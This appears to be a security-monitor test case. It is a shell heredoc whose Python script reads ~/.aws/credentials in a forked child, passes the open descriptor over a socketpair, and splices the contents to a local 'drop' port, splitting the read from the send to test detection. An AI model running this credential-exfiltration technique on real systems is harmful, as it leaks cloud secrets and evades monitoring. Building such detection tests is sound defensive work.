# incident: the one who opens is not the one who sends: an open file goes through a socket
# finding: credential-read
# needs: python3
python3 - <<'PY'
import array, os, socket
a, b = socket.socketpair()
if os.fork() == 0:
    fd = os.open(os.path.expanduser("~/.aws/credentials"), os.O_RDONLY)
    socket.send_fds(a, [b"x"], [fd]); os._exit(0)
os.wait()
_, fds, _, _ = socket.recv_fds(b, 1, 1)
c = socket.create_connection(("127.0.0.1", int(os.environ["DROP_PORT"])))
r, w = os.pipe()
os.splice(fds[0], w, 4096); os.splice(r, c.fileno(), 4096)
PY
